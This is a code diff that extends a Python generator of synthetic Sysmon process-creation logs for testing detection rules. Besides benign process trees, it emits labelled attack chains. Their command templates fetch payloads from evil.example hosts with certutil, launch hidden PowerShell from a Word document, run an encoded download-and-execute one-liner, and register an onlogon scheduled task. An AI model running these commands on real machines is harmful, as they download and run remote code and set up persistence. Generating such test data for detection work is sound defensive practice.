@@ -1,6 +1,24 @@
+"""Synthetic Sysmon process-creation workload.
+
+generate_logs() returns the five fixed sample records used by the engine and
+the docs. FleetGenerator produces a seeded, endless stream for a fleet of
+hosts: benign activity arranged in process trees of bounded depth, command
+lines with a long-tailed length distribution, and a configurable share of
+attack chains (the scenarios below, matched by the built-in rules).
+
+Usage:
+    python mock_log_generator.py                      # the five fixed records (JSON array)
+    python mock_log_generator.py --events 100000 [--hosts 50] [--malicious 0.01]
+                                 [--depth 4] [--seed 1] [--rate 200] [--start ISO] [--output FILE.jsonl[.gz]]
+"""
+import argparse
+import base64
+import datetime
+import gzip
 import json
+import random
+import sys
 import uuid
-import datetime
 
 def generate_logs():
     logs = [
@@ -25,7 +43,7 @@ def generate_logs():
             "process_name": "powershell.exe",
             "command_line": "powershell.exe Get-Date"
         },
-        
+
         # Attack Scenarios
         # 1. CertUtil Download
         {
@@ -61,8 +79,203 @@ def generate_logs():
             "command_line": "schtasks /create /tn \"Updater\" /tr \"C:\\Temp\\malware.exe\" /sc onlogon"
         }
     ]
-    
+
     return json.dumps(logs, indent=4)
 
+
+# --- Fleet workload ---
+
+SYSTEM32 = "C:\\Windows\\System32\\"
+POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
+OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
+
+ROOT_IMAGES = [SYSTEM32 + "services.exe", "C:\\Windows\\explorer.exe", SYSTEM32 + "svchost.exe"]
+
+# (image, command template); {word}, {file}, {dir}, {host}, {n} are filled in per event
+BENIGN = [
+    (SYSTEM32 + "svchost.exe", "svchost.exe -k {word} -p -s {word}"),
+    (SYSTEM32 + "cmd.exe", "cmd.exe /c \"{dir}\\{word}.bat\""),
+    (SYSTEM32 + "cmd.exe", "cmd.exe /c dir {dir} /s /b"),
+    (POWERSHELL, "powershell.exe -NoProfile -Command Get-{word} | Select-Object -First {n}"),
+    (POWERSHELL, "powershell.exe -File {dir}\\{word}.ps1"),
+    (SYSTEM32 + "certutil.exe", "certutil.exe -hashfile {dir}\\{file} SHA256"),
+    (SYSTEM32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
+    (SYSTEM32 + "rundll32.exe", "rundll32.exe {dir}\\{word}.dll,{word}"),
+    (SYSTEM32 + "schtasks.exe", "schtasks.exe /query /tn \\Microsoft\\Windows\\{word}"),
+    (SYSTEM32 + "net.exe", "net.exe use \\\\{host}\\{word}"),
+    (SYSTEM32 + "reg.exe", "reg.exe query HKLM\\Software\\{word} /v {word}"),
+    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle={n} "
+     "--lang=en-US --renderer-client-id={n}"),
+    (OFFICE + "WINWORD.EXE", "\"{office}WINWORD.EXE\" /n \"{dir}\\{file}\""),
+    ("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe -C {dir} fetch --prune origin"),
+    ("C:\\Python311\\python.exe", "python.exe {dir}\\{word}.py --config {dir}\\{file}"),
+]
+
+WORDS = ["netsvcs", "LocalService", "Schedule", "BITS", "wuauserv", "Update", "Report", "Backup", "Sync",
+         "Telemetry", "Inventory", "Service", "Process", "ChildItem", "Content", "Cleanup", "Deploy", "Agent"]
+DIRS = ["C:\\Users\\alice\\Documents", "C:\\ProgramData\\Vendor", "C:\\Temp", "D:\\Builds\\release",
+        "C:\\Users\\bob\\AppData\\Local\\Temp", "\\\\fileserver\\share\\it"]
+FILES = ["report.docx", "budget.xlsx", "setup.log", "config.json", "notes.txt", "data.csv"]
+FLAGS = ["--verbose", "--no-color", "/quiet", "/norestart", "-NonInteractive", "--log-level=info", "/v"]
+
+
+def _encoded(script):
+    return base64.b64encode(script.encode("utf-16-le")).decode()
+
+
+# Attack chains: each step is (image, command); a step runs as a child of the one before it
+SCENARIOS = {
+    "certutil_download": [
+        (SYSTEM32 + "cmd.exe", "cmd.exe /c certutil -urlcache -split -f http://{evil}/{payload} {dir}\\{payload}"),
+        (SYSTEM32 + "certutil.exe", "certutil.exe -urlcache -split -f http://{evil}/{payload} {dir}\\{payload}"),
+    ],
+    "office_macro": [
+        (OFFICE + "WINWORD.EXE", "\"{office}WINWORD.EXE\" /n \"{dir}\\invoice.docm\""),
+        (POWERSHELL, "powershell.exe -nop -w hidden -c \"certutil -urlcache -split -f http://{evil}/{payload}\""),
+        (SYSTEM32 + "certutil.exe", "certutil.exe -urlcache -split -f http://{evil}/{payload} {dir}\\{payload}"),
+    ],
+    "encoded_powershell": [
+        (POWERSHELL, "powershell.exe -enc {encoded}"),
+    ],
+    "schtasks_persistence": [
+        (SYSTEM32 + "schtasks.exe", "schtasks /create /tn \"{word}\" /tr \"{dir}\\{payload}\" /sc onlogon"),
+    ],
+}
+
+USERS = ["DOMAIN\\alice", "DOMAIN\\bob", "DOMAIN\\svc_backup", "NT AUTHORITY\\SYSTEM"]
+
+
+class FleetGenerator:
+    """Seeded stream of Sysmon Event ID 1 records for a fleet of hosts.
+
+    Each host keeps a bounded set of live processes; a new process is the
+    child of a random live process shallower than depth, or a new root.
+    Command lengths follow a log-normal distribution (median around
+    cmd_median characters) by appending arguments to the template. On
+    average a malicious share of events belongs to attack chains, whose steps
+    are emitted consecutively with parent links. Every record carries a
+    "Label" ("benign" or the scenario name) so hits can be checked.
+    """
+
+    def __init__(self, hosts=50, malicious=0.01, depth=4, seed=1, rate=200.0, start=None, cmd_median=80):
+        self.rng = random.Random(seed)
+        self.hosts = [f"WS-{i:04d}" for i in range(hosts)]
+        self.malicious = malicious
+        self.depth = depth
+        self.rate = rate  # fleet-wide events per second of simulated time
+        self.clock = (start or datetime.datetime(2026, 1, 1)).timestamp()
+        self.cmd_median = cmd_median
+        self._live = {host: [] for host in self.hosts}  # host -> [(pid, image, cmd, depth)]
+        self._next_pid = {host: 1000 for host in self.hosts}
+        self._pending = []  # remaining steps of the attack chain in progress
+        self._chain_length = sum(len(s) for s in SCENARIOS.values()) / len(SCENARIOS)
+
+    def _values(self):
+        rng = self.rng
+        return dict(
+            word=rng.choice(WORDS), file=rng.choice(FILES), dir=rng.choice(DIRS), n=rng.randint(1, 99999),
+            host=rng.choice(self.hosts), office=OFFICE, evil=f"cdn{rng.randint(1, 999)}.evil.example",
+            payload=f"{rng.choice(WORDS).lower()}.exe",
+            encoded=_encoded(f"IEX(New-Object Net.WebClient).DownloadString('http://{rng.randint(1, 255)}.evil.example/a.ps1')"))
+
+    def _pad(self, cmd):
+        target = min(int(self.rng.lognormvariate(0, 0.8) * self.cmd_median), 8191)  # Windows command-line limit
+        while len(cmd) < target:
+            cmd += " " + (self.rng.choice(FLAGS) if self.rng.random() < 0.5
+                          else f"{self.rng.choice(DIRS)}\\{self.rng.choice(FILES)}")
+        return cmd
+
+    def _spawn(self, host, parent, image, cmd, label):
+        live = self._live[host]
+        pid = self._next_pid[host] = self._next_pid[host] + self.rng.choice((4, 8, 12))
+        depth = parent[3] + 1 if parent else 0
+        live.append((pid, image, cmd, depth))
+        if len(live) > 64:
+            live.pop(0)
+        self.clock += self.rng.expovariate(self.rate)
+        return {
+            "EventID": 1,
+            "UtcTime": datetime.datetime.fromtimestamp(self.clock, datetime.timezone.utc).replace(tzinfo=None).isoformat(timespec="milliseconds"),
+            "ProcessGuid": str(uuid.UUID(int=self.rng.getrandbits(128), version=4)),
+            "ProcessId": pid,
+            "ParentProcessId": parent[0] if parent else 4,
+            "Image": image,
+            "CommandLine": cmd,
+            "ParentImage": parent[1] if parent else SYSTEM32 + "smss.exe",
+            "ParentCommandLine": parent[2] if parent else "",
+            "CurrentDirectory": self.rng.choice(DIRS),
+            "User": self.rng.choice(USERS),
+            "Computer": host,
+            "Label": label,
+            "process_name": image.rsplit("\\", 1)[-1],  # Compatibility key
+            "command_line": cmd,  # Compatibility key
+        }
+
+    def _benign(self):
+        host = self.rng.choice(self.hosts)
+        live = self._live[host]
+        parents = [p for p in live[-16:] if p[3] < self.depth - 1]
+        if not parents or self.rng.random() < 0.1:
+            image = self.rng.choice(ROOT_IMAGES)
+            return self._spawn(host, None, image, image.rsplit("\\", 1)[-1], "benign")
+        image, template = self.rng.choice(BENIGN)
+        cmd = self._pad(template.format(**self._values()))
+        return self._spawn(host, self.rng.choice(parents), image, cmd, "benign")
+
+    def _attack(self):
+        if not self._pending:
+            name = self.rng.choice(sorted(SCENARIOS))
+            host = self.rng.choice(self.hosts)
+            live = self._live[host]
+            parent = live[-1] if live else None
+            values = self._values()  # one URL/payload for the whole chain
+            self._pending = [(host, name, image, template.format(**values)) for image, template in SCENARIOS[name]]
+            self._pending[0] += (parent,)
+        host, name, image, cmd, *parent = self._pending.pop(0)
+        parent = parent[0] if parent else self._live[host][-1]
+        return self._spawn(host, parent, image, cmd, name)
+
+    def events(self, count=None):
+        """Yield count records (endless when count is None)."""
+        produced = 0
+        start_chance = self.malicious / self._chain_length
+        while count is None or produced < count:
+            if self._pending or self.rng.random() < start_chance:
+                yield self._attack()
+            else:
+                yield self._benign()
+            produced += 1
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Synthetic Sysmon process-creation workload")
+    parser.add_argument("--events", type=int, help="stream this many fleet events as JSON lines")
+    parser.add_argument("--hosts", type=int, default=50)
+    parser.add_argument("--malicious", type=float, default=0.01, help="share of events from attack chains")
+    parser.add_argument("--depth", type=int, default=4, help="maximum process-tree depth")
+    parser.add_argument("--seed", type=int, default=1)
+    parser.add_argument("--rate", type=float, default=200.0, help="simulated fleet events per second")
+    parser.add_argument("--start", type=datetime.datetime.fromisoformat, help="first event time (ISO-8601)")
+    parser.add_argument("--cmd-median", type=int, default=80, help="median command-line length")
+    parser.add_argument("--output", help="write to this file instead of stdout (.gz is compressed)")
+    args = parser.parse_args()
+
+    if args.events is None:
+        print(generate_logs())
+        return
+    generator = FleetGenerator(args.hosts, args.malicious, args.depth, args.seed, args.rate, args.start, args.cmd_median)
+    if args.output:
+        out = gzip.open(args.output, "wt", encoding="utf-8") if args.output.endswith(".gz") else open(args.output, "w", encoding="utf-8")
+    else:
+        out = sys.stdout
+    try:
+        for record in generator.events(args.events):
+            out.write(json.dumps(record) + "\n")
+    finally:
+        if out is not sys.stdout:
+            out.close()
+
+
 if __name__ == "__main__":
-    print(generate_logs())
+    main()